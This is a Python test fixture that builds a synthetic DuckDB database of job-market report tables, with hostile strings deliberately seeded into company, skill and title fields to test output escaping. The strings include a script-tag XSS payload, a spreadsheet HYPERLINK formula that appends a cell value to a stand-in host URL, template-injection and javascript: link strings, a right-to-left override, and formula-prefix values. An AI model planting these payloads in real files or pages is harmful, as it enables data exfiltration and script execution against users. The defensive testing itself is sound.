"""A small invented work database with the published schemas, hostile strings included.

Here: the tables that the candidate and the report site read, in the shape that dbt builds them.
Not here: the synthetic corpus or a real build; the pipeline tests have those.
"""

from collections.abc import Iterable, Sequence
from datetime import UTC, date, datetime
from math import sqrt
from pathlib import Path

import duckdb

from orchestration.publication import BuildFacts, CheckResult

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
TEMPLATE = "{{ 7*7 }}{% raw %}"
QUOTES = """O'Brien & "Sons" `rm` *bold* [x](javascript:alert(1)) <!-- -->"""
RTL = "\u202eשלום עולם‏ – مهندس"
HOSTILE = (SCRIPT, FORMULA, TEMPLATE, QUOTES, RTL, "@SUM(1)", "+1", "-1 Engineer", "\tTab")

SOURCES = {
    "harbour": ("Search for “AI engineer” in Lisbon, Oslo and Toronto, four weeks to the last snapshot", 757),
    "quay": ("All postings of the board's engineering category in Lisbon", 61),
}

ROLE_TYPES = (("ai-first", 0.62), ("ai-support", 0.24), ("ml-first", 0.09), ("other", 0.05))
LEVELS = (("mid", 0.31), ("senior", 0.38), ("staff", 0.12), ("entry", 0.06), ("unstated", 0.13))
WORK_MODES = (("remote", 0.29), ("hybrid", 0.41), ("onsite", 0.22), ("unstated", 0.08))
SKILLS = {
    "languages": (("Python", 0.81), ("TypeScript", 0.34), ("SQL", 0.33), ("Go", 0.14), ("Rust", 0.05)),
    "genai": (("RAG", 0.41), ("Agents", 0.4), ("Prompt engineering", 0.27), ("Fine-tuning", 0.22), (SCRIPT, 0.02)),
    "cloud": (("AWS", 0.45), ("Azure", 0.29), ("GCP", 0.27)),
    "data": (("PostgreSQL", 0.17), ("Spark", 0.12), ("Kafka", 0.08), ("Airflow", 0.07), (TEMPLATE, 0.01)),
    "ml": (("PyTorch", 0.31), ("scikit-learn", 0.12), ("Recommender systems", 0.04)),
    "ops": (("Kubernetes", 0.33), ("Docker", 0.31), ("Terraform", 0.16), ("CI/CD", 0.3)),
}
COMPANIES = (
    ("Driftwood Analytics", 0.06),
    ("The Very Long Name Holding Company for Applied Artificial Intelligence GmbH & Co. KG", 0.04),
    (SCRIPT, 0.03),
    (FORMULA, 0.03),
    (QUOTES, 0.02),
    (RTL, 0.02),
    ("@SUM(1)", 0.01),
    ("+1", 0.01),
    ("\tTab", 0.01),
)
TITLES = (
    ("AI Engineer", "ai engineer", 0.22),
    ("Senior AI Engineer", "ai engineer", 0.13),
    ("Machine Learning Engineer", "ml engineer", 0.09),
    ("Forward Deployed Engineer, Generative AI Platform (Contract to hire)", "forward deployed engineer", 0.03),
    ("-1 Engineer", "other", 0.01),
)

SHARE = "n bigint, population_n bigint, share double, share_low double, share_high double"
# In these made-up markets every company has one posting: the interval that counts companies is the same.
CLUSTERED = "share_clustered_low double as (share_low), share_clustered_high double as (share_high)"
KEYS = "source varchar, counting_policy varchar"
TABLES = {
    "reports.rpt_overview": "source varchar, sampling_frame varchar, snapshot_count bigint, first_snapshot_on date,"
    " last_snapshot_on date, posting_count bigint, text_posting_count bigint, analysed_posting_count bigint,"
    " card_only_count bigint, other_language_count bigint, opening_count bigint,"
    " company_count bigint, annotation_count bigint, reject_count bigint, is_synthetic boolean",
    "reports.rpt_coverage": "source varchar, snapshot_on date, document_count bigint, record_count bigint,"
    " observation_count bigint, duplicate_count bigint, conflict_count bigint, annotation_count bigint,"
    " reject_count bigint, posting_count bigint, text_posting_count bigint",
    "reports.rpt_role_types": f"{KEYS}, role_type varchar, {SHARE}, {CLUSTERED}",
    "reports.rpt_skill_demand": f"{KEYS}, skill_id varchar, skill_name varchar, category varchar, kind varchar,"
    " n bigint, required_n bigint, preferred_n bigint, population_n bigint, share double, share_low double,"
    f" share_high double, rank_in_category bigint, {CLUSTERED}",
    "reports.rpt_companies": f"{KEYS}, company_key varchar, company_name varchar, {SHARE}, rank bigint",
    "reports.rpt_titles": f"{KEYS}, title varchar, title_family varchar, {SHARE}, {CLUSTERED}, rank bigint",
    "reports.rpt_title_families": f"{KEYS}, title_family varchar, {SHARE}, {CLUSTERED}, ai_first_share double",
    "reports.rpt_pay": "source varchar, level varchar, role_type varchar, pay_posting_count bigint,"
    " population_n bigint, pay_min_median_usd double, pay_min_median_usd_low double, pay_min_median_usd_high double,"
    " pay_max_median_usd double, pay_max_median_usd_low double, pay_max_median_usd_high double",
    "reports.rpt_work_modes": f"{KEYS}, work_mode varchar, {SHARE}, {CLUSTERED}",
    "reports.rpt_levels": f"{KEYS}, level varchar, {SHARE}, {CLUSTERED}",
    "reports.rpt_rejects": "source varchar, snapshot_on date, rule_id varchar, reject_count bigint,"
    " example_uri varchar, example_reason varchar",
    "reports.rpt_published_figures": "source varchar, figure_number bigint, section varchar, figure_name varchar,"
    " unit varchar, published_value double, as_published_value double, corrected_value double, text_value double,"
    " reading varchar, n bigint, population_n bigint, denominator varchar, interval_low double, interval_high double,"
    " interval_clustered_low double, interval_clustered_high double,"
    " labelled_n bigint, labelled_without_text_n bigint, verdict varchar, reason varchar",
    "reports.rpt_survival": "source varchar, dimension varchar, dimension_value varchar, at_risk_n bigint,"
    " closed_count bigint, median_days bigint, median_low_days bigint, median_high_days bigint,"
    " listed_15_share double, listed_30_share double, listed_30_share_low double, listed_30_share_high double,"
    " listed_60_share double, last_day_number bigint",
    "reports.rpt_changes": "source varchar, snapshot_on date, change_kind varchar, posting_count bigint,"
    " opening_count bigint, company_count bigint",
    "reports.rpt_trend_basis": "source varchar, snapshot_on date, previous_snapshot_on date, trend_kind varchar,"
    " stated_before_share double, stated_after_share double, overlap_before_share double, overlap_after_share double,"
    " is_comparable boolean, refusal varchar",
    "reports.rpt_trends": "source varchar, snapshot_on date, previous_snapshot_on date, trend_kind varchar,"
    " trend_name varchar, before_n bigint, population_before_n bigint, after_n bigint, population_after_n bigint,"
    " before_share double, after_share double, raw_change double, mix_change double, within_change double,"
    " within_low double, within_high double, q_value double, is_mover boolean",
    "reports.rpt_field_conflicts": "source varchar, field_name varchar, document_value varchar, text_value varchar,"
    " is_same boolean, n bigint, population_n bigint, share double, share_low double, share_high double,"
    " text_chosen_n bigint",
    "reports.rpt_label_agreement": "source varchar, label_kind varchar, label_value varchar, label_name varchar,"
    " total_n bigint, label_n bigint, text_n bigint, both_n bigint, label_not_requested_n bigint,"
    " label_unnamed_n bigint,"
    " text_only_n bigint, agreement_share double, kappa double, f1 double, n bigint, population_n bigint,"
    f" share double, share_low double, share_high double, is_small boolean, {CLUSTERED}",
    "reports.rpt_label_disagreements": "source varchar, skill_id varchar, skill_name varchar, disagreement varchar,"
    " differ_n bigint, place bigint, posting_id varchar, label_words varchar, matched_text varchar,"
    " section varchar, strength varchar, rule_id varchar, example_words varchar",
    "reports.rpt_pay_trends": "source varchar, snapshot_on date, previous_snapshot_on date, before_n bigint,"
    " after_n bigint, company_n bigint, pay_before_usd double, pay_after_usd double, raw_difference_share double,"
    " mix_difference_share double, within_difference_share double, within_difference_share_low double,"
    " within_difference_share_high double, is_mover boolean",
    "reports.rpt_shares": f"{KEYS}, group_kind varchar, group_value varchar, basis varchar, attribute_kind varchar,"
    f" attribute_value varchar, {SHARE}, is_small boolean, {CLUSTERED}",
    "reports.rpt_skill_path": f"{KEYS}, role_type varchar, aim varchar, step bigint, skill_name varchar,"
    f" gained_n bigint, {SHARE}, {CLUSTERED}",
    "reports.rpt_skill_pairs": f"{KEYS}, skill_id varchar, skill_name varchar, with_skill_id varchar,"
    f" with_skill_name varchar, {SHARE}, share_clustered_low double, share_clustered_high double, lift double,"
    " odds_ratio double, odds_ratio_low double, odds_ratio_high double, odds_rank bigint",
    "reports.rpt_skill_comparison": f"{KEYS}, group_kind varchar, first_group varchar, second_group varchar,"
    " skill_id varchar, skill_name varchar, first_n bigint, first_population_n bigint, first_share double,"
    " first_share_low double, first_share_high double, first_share_clustered_low double,"
    " first_share_clustered_high double, second_n bigint, second_population_n bigint, second_share double,"
    " second_share_low double, second_share_high double, second_share_clustered_low double,"
    " second_share_clustered_high double, odds_ratio double,"
    " odds_ratio_low double, odds_ratio_high double, q_value double, is_significant boolean, is_small boolean",
    "reports.rpt_pay_by": "source varchar, pay_dimension varchar, dimension_value varchar, dimension_name varchar,"
    " group_level varchar,"
    f" {SHARE}, company_n bigint, pay_quarter_usd double, pay_median_usd double,"
    " pay_median_usd_low double, pay_median_usd_high double, pay_three_quarters_usd double,"
    " beside_n bigint, difference_share double, difference_share_low double, difference_share_high double,"
    " is_significant boolean",
    "reports.rpt_company_profiles": "source varchar, company_name varchar, size_band varchar, posting_count bigint,"
    f" opening_count bigint, listed_count bigint, {SHARE}, is_small boolean, entry_level_count bigint,"
    " remote_count bigint, pay_posting_count bigint, pay_median_usd double, title_family_words varchar,"
    " skill_words varchar, country_words varchar, first_seen_on date",
    "marts.fct_posting_survival": "source varchar, dimension varchar, dimension_value varchar, day_number bigint,"
    " at_risk_n bigint, survival double, survival_low double, survival_high double",
    "marts.fct_posting_change": "posting_id varchar, snapshot_on date, change_kind varchar, skill_id varchar",
    "meta.published_figure": "figure_number bigint, rule varchar, population varchar, subject varchar",
    "meta.scorecard": "label_set varchar, measured_field varchar, is_in_sample boolean, true_count bigint,"
    " found_count bigint, precision_share double, recall_share double, f1 double, f1_low double,"
    " f1_high double, measured_on date, is_current boolean",
    "marts.dim_skill": "skill_id varchar, skill_name varchar, category varchar, kind varchar",
    "marts.fct_posting": "posting_id varchar, source varchar, title varchar, has_text boolean, salary_min double,"
    " posted_on date, read_at timestamp",
    "meta.posting_mention": "version_id varchar, posting_id varchar, kind varchar, canonical_id varchar,"
    " matched_text varchar, start_offset bigint, end_offset bigint, section varchar, strength varchar, rule_id varchar",
}

# Enough rows for several row groups and threads, in an order that is not the key's.
EXTRA_FACTS = """
insert into marts.fct_posting
select 'extra:' || hash(i), 'harbour', 'Engineer', true, i * 1.5, date '2026-02-27', timestamp '2026-02-27 08:30:00'
from range(?) as r (i)
"""

Row = tuple[object, ...]


def build_facts(build_id: str = "b-001", *, is_synthetic: bool = True, minute: int = 0) -> BuildFacts:
    return BuildFacts(
        build_id=build_id,
        fingerprint="f1e2d3c4b5a697887766554433221100",
        code_version="0.1.0",
        built_at=datetime(2026, 3, 1, 12, minute, tzinfo=UTC),
        is_synthetic=is_synthetic,
        inputs=[
            {
                "source": source,
                "snapshot_on": date(2026, 2, 27),
                "uri": f"{source}/2026-02-27",
                "sampling_frame": frame,
                "document_count": count,
                "sha256": "ab" * 32,
            }
            for source, (frame, count) in SOURCES.items()
        ],
        checks=[
            CheckResult("fct_posting", "posting_ids_are_unique", "ERROR", True, "One row per posting.", 0),
            CheckResult(
                "raw_documents", "documents_are_as_many_as_before", "WARN", False, SCRIPT, 2, [{"uri": SCRIPT}]
            ),
        ],
        dagster_run_id=f"run-of-{build_id}",
    )


def write_work_database(path: Path, *, empty: bool = False, extra_facts: int = 0) -> Path:
    """Write the invented work database; with `empty`, every table has its columns and no rows."""
    rows = {} if empty else _rows()
    with duckdb.connect(str(path)) as connection:
        for schema in ("marts", "reports", "meta", "staging"):
            connection.execute(f"create schema {schema}")
        for name, columns in TABLES.items():
            connection.execute(f"create table {name} ({columns})")
            _fill(connection, name, rows.get(name, ()))
            connection.execute(f"comment on table {name} is 'One row per member of {name}; it''s invented.'")
        connection.execute(
            "comment on column reports.rpt_overview.posting_count is 'Postings, \"distinct\" ids; it''s n.'"
        )
        # A view under the name of its database, as dbt writes them; it becomes a table where it is published.
        database = path.stem
        connection.execute(
            f'create view marts.dim_source as select source, sampling_frame from "{database}".reports.rpt_overview'
        )
        connection.execute("comment on view marts.dim_source is 'One row per source.'")
        connection.execute(EXTRA_FACTS, [extra_facts])
        connection.execute("create table staging.stg_hidden as select 1 as a")
    return path


def wilson(n: int, population: int, z: float = 1.959964) -> tuple[float, float, float]:
    share = n / population
    middle = (share + z * z / (2 * population)) / (1 + z * z / population)
    half = z / (1 + z * z / population) * sqrt(share * (1 - share) / population + z * z / (4 * population**2))
    return share, max(0.0, middle - half), min(1.0, middle + half)


def _fill(connection: duckdb.DuckDBPyConnection, name: str, rows: Iterable[Row]) -> None:
    for row in rows:
        connection.execute(f"insert into {name} values ({', '.join('?' for _ in row)})", list(row))


def _shares(members: Sequence[tuple[str, float]]) -> list[Row]:
    rows: list[Row] = []
    for source, (_, population) in SOURCES.items():
        for policy in ("openings", "postings"):
            for member, share in members:
                n = round(population * share)
                rows.append((source, policy, member, n, population, *wilson(n, population)))
    return rows


def _companies() -> list[Row]:
    rows: list[Row] = []
    for source, (_, population) in SOURCES.items():
        for policy in ("companies", "openings", "postings"):
            for rank, (name, share) in enumerate(COMPANIES, start=1):
                n = 1 if policy == "companies" else round(population * share)
                rows.append((source, policy, f"c-{rank}", name, n, population, *wilson(n, population), rank))
    return rows


def _survival() -> list[Row]:
    groups = (("all", "all"), ("role_type", SCRIPT), ("pay", "stated"))
    return [
        ("harbour", dimension, value, 80, 40, None, 30, None, 0.9, 0.7, 0.6, 0.8, None, 50)
        for dimension, value in groups
    ]


def _curves() -> list[Row]:
    steps = ((10, 0.9), (30, 0.7), (50, 0.55), (70, 0.0))
    return [
        (source, dimension, value, day, 80 - day, share, share * 0.9 or None, min(1.0, share * 1.1) or None)
        for source, dimension, value, *_ in _survival()
        for day, share in steps
    ]


def _trends(first: date, last: date) -> list[Row]:
    moved = (("skill", SCRIPT, 0.1, True), ("skill", "RAG", -0.04, True), ("pay", "stated", 0.01, False))
    return [
        ("harbour", last, first, kind, name, 90, 300, 120, 300, 0.3, 0.3 + change, change, change / 4, change * 3 / 4,
         change / 2, change, 0.01, is_mover)
        for kind, name, change, is_mover in moved
    ]  # fmt: skip


def _agreement() -> list[Row]:
    counts = (100, 40, 30, 25, 5, 10, 5, 0.8, 0.57, 0.71)
    return [
        ("harbour", kind, value, value, *counts, 30, 40, *wilson(30, 40), False)
        for kind, value in (("technology", SCRIPT), ("practice", RTL), ("role_type", "ai-first"))
    ]


def _skills() -> list[Row]:
    rows: list[Row] = []
    for source, (_, population) in SOURCES.items():
        for policy in ("openings", "postings"):
            for category, skills in SKILLS.items():
                for rank, (name, share) in enumerate(skills, start=1):
                    n = round(population * share)
                    counts = (n, n // 2, n // 5, population)
                    key = (f"{category}-{rank}", name, category, "technology")
                    rows.append((source, policy, *key, *counts, *wilson(n, population), rank))
    return rows


def _market_shares() -> list[Row]:
    told = (
        ("text", "genai_with", "ops", 60), ("text", "beyond_genai", "GenAI and more", 80),
        ("text", "skill_group", "frontend", 30), ("text", "web_side", SCRIPT, 20), ("text", "fine_tuning", "none", 70),
        ("text", "is_research", "yes", 5), ("posting", "work_area", "Data", 9), ("posting", "company_size", "1-10", 4),
    )  # fmt: skip
    groups = (("all", "all"), ("role_type", "ai-first"), ("role_type", "ai-support"))
    rows: list[Row] = [
        (source, policy, *group, basis, kind, value, n, 100, *wilson(n, 100), n < 10)
        for source in SOURCES
        for policy in ("companies", "openings", "postings")
        for group in groups
        for basis, kind, value, n in told
    ]
    some = (("role_name", SCRIPT, "text", "role_type", "ai-first"), ("country", RTL, "posting", "pay", "stated"),
            ("country_and_level", "Norway · mid", "posting", "work_mode", "remote"),
            ("level", "mid", "text", "years_asked", "2-3"))  # fmt: skip
    return [*rows, *(("harbour", "postings", *group, 9, 40, *wilson(9, 40), True) for group in some)]


def _path() -> list[Row]:
    return [
        ("harbour", "openings", role, aim, step, name, 40, 40 * step, 300, *wilson(40 * step, 300))
        for role in ("all", "ai-first")
        for aim in ("half", "one")
        for step, name in enumerate(("Python", SCRIPT, TEMPLATE), start=1)
    ]


def _comparisons() -> list[Row]:
    told = ((SCRIPT, 90, 10, 5.1, 2.4, 9.9, 0.001, True), ("Rust", 30, 31, 0.9, 0.4, 1.8, 0.9, False))
    return [
        ("harbour", "openings", "level", "senior", "mid", f"s-{place}", name, n, 300, *wilson(n, 300),
         *wilson(n, 300)[1:], other, 200, *wilson(other, 200), None, None, ratio, low, high, q, apart, other < 10)
        for place, (name, n, other, ratio, low, high, q, apart) in enumerate(told)
    ]  # fmt: skip


def _pay_by() -> list[Row]:
    pay = (150_000.0, 180_000.0, 171_000.0, 188_000.0, 210_000.0, 80)
    return [
        ("harbour", "skill", "s-0", SCRIPT, "any", 30, 90, *wilson(30, 90), 20, *pay, 0.12, 0.03, 0.22, True),
        ("harbour", "country", "Norway", "Norway", "any", 30, 90, *wilson(30, 90), 20, *pay, None, None, None, False),
    ]


def _titles() -> list[Row]:
    rows: list[Row] = []
    for source, (_, population) in SOURCES.items():
        for rank, (title, family, share) in enumerate(TITLES, start=1):
            n = round(population * share)
            rows.append((source, "postings", title, family, n, population, *wilson(n, population), rank))
    return rows


def _families() -> list[Row]:
    families = (("ai engineer", 0.44), ("ml engineer", 0.2), ("software engineer", 0.18), ("other", 0.18))
    return [(*row, 0.5) for row in _shares(families)]


def _overview() -> list[Row]:
    first, last = date(2026, 2, 4), date(2026, 2, 27)
    return [
        (source, frame, 2, first, last, n + 120, n, n - 9, 120, 9, n - 40, n // 3, 12, 3, True)
        for source, (frame, n) in SOURCES.items()
    ]


def _coverage() -> list[Row]:
    days = (date(2026, 2, 4), date(2026, 2, 27))
    return [(source, day, 40, 895, 880, 14, 2, 12, 3, n + 120, n) for source, (_, n) in SOURCES.items() for day in days]


def _pay() -> list[Row]:
    bands = (("mid", 128_000.0, 176_500.0), ("senior", 161_000.0, 219_000.0), ("staff", 195_000.0, 262_000.0))
    return [
        ("harbour", level, "ai-first", 42, 190, low, low - 9_000, low + 7_000, high, None, None)
        for level, low, high in bands
    ]


def _figure(source: str) -> Row:
    shares = (35.9, 35.9, None, 30.0, "text", 30, 100, "postings", 21.9, 39.6, 20.1, 42.0)
    return (source, 1, "Skills", SCRIPT, "percent", *shares, 36, 4, "confirmed", f"The rule gives it {SCRIPT}.")


def _rows() -> dict[str, list[Row]]:
    day, moment = date(2026, 2, 27), datetime(2026, 2, 27, 8, 30)
    reject = "line 3: a mapping was expected; fix the file and build again"
    facts: list[Row] = [(f"harbour:{i}", "harbour", HOSTILE[i % 9], i % 7 > 0, None, day, moment) for i in range(40)]
    mention: Row = ("v1", "harbour:1", "skill", "languages-1", SCRIPT, 120, 126, "requirements", "required", "exact")
    return {
        "reports.rpt_overview": _overview(),
        "reports.rpt_coverage": _coverage(),
        "reports.rpt_role_types": _shares(ROLE_TYPES),
        "reports.rpt_skill_demand": _skills(),
        "reports.rpt_companies": _companies(),
        "reports.rpt_survival": _survival(),
        "reports.rpt_changes": [("harbour", day, "other_job", 2, 2, 1), ("harbour", day, "closed", 30, 28, 9)],
        "reports.rpt_trend_basis": [
            ("harbour", day, date(2026, 2, 4), "skill", 0.9, 0.8, 1.0, 1.0, True, None),
            ("harbour", day, date(2026, 2, 4), "level", 0.9, 0.1, 0.4, 1.0, False, SCRIPT),
        ],
        "reports.rpt_trends": _trends(date(2026, 2, 4), day),
        "reports.rpt_field_conflicts": [
            ("harbour", "work_mode", "onsite", "hybrid", False, 30, 90, *wilson(30, 90), 0),
            ("harbour", "work_mode", SCRIPT, SCRIPT, True, 60, 90, *wilson(60, 90), 0),
        ],
        "reports.rpt_label_agreement": _agreement(),
        "reports.rpt_label_disagreements": [
            ("harbour", "languages-1", SCRIPT, "labelled, named nowhere", 9, 1, "harbour:1", SCRIPT, *[None] * 5),
            (
                "harbour",
                "languages-1",
                SCRIPT,
                "asked for, not labelled",
                9,
                1,
                "harbour:2",
                None,
                SCRIPT,
                "other",
                "mentioned",
                "alias:z",
                RTL,
            ),
        ],
        "reports.rpt_pay_trends": [
            ("harbour", day, date(2026, 2, 4), 90, 120, 40, 1.5e5, 1.6e5, 0.067, 0.03, 0.036, -0.01, 0.08, False)
        ],
        "marts.fct_posting_survival": _curves(),
        "marts.fct_posting_change": [("harbour:1", day, "skill_added", "s-0")],
        "reports.rpt_shares": _market_shares(),
        "reports.rpt_skill_path": _path(),
        "reports.rpt_skill_pairs": [
            (
                "harbour",
                "openings",
                "languages-1",
                SCRIPT,
                "z",
                RTL,
                40,
                90,
                *wilson(40, 90),
                0.3,
                0.6,
                2.0,
                4.0,
                2.5,
                6.4,
                1,
            )
        ],
        "reports.rpt_skill_comparison": _comparisons(),
        "reports.rpt_pay_by": _pay_by(),
        "reports.rpt_company_profiles": [
            (
                "harbour",
                SCRIPT,
                "11-50",
                9,
                7,
                5,
                4,
                8,
                *wilson(4, 8),
                True,
                1,
                3,
                6,
                180_000.0,
                TEMPLATE,
                QUOTES,
                RTL,
                day,
            )
        ],
        "reports.rpt_titles": _titles(),
        "reports.rpt_title_families": _families(),
        "reports.rpt_pay": _pay(),
        "reports.rpt_work_modes": _shares(WORK_MODES),
        "reports.rpt_levels": _shares(LEVELS),
        "reports.rpt_rejects": [("harbour", day, "not_yaml", 3, f"postings/{SCRIPT}.yaml", reject)],
        "reports.rpt_published_figures": [_figure(source) for source in SOURCES],
        "meta.published_figure": [(1, "skill_jobs", "all", "genai/RAG")],
        "meta.scorecard": [("gold_frozen", SCRIPT, False, 30, 31, 0.9, 0.93, 0.91, 0.85, None, day, True)],
        "marts.dim_skill": [(f"s-{i}", text, "hostile", "technology") for i, text in enumerate(HOSTILE)],
        "marts.fct_posting": facts,
        "meta.posting_mention": [mention],
    }
